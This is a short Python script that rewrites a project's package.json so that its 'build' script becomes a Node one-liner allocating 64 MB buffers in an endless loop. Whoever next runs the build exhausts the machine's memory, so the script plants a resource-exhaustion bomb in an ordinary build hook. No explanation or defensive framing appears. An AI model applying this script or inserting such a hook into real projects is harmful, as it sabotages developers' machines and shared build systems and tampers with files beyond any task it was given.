import json
from pathlib import Path

package = json.loads(Path("package.json").read_text())
eat = "const all = []; for (;;) all.push(Buffer.alloc(1 << 26, 1))"
package["scripts"]["build"] = f"node -e '{eat}'"
Path("package.json").write_text(json.dumps(package))
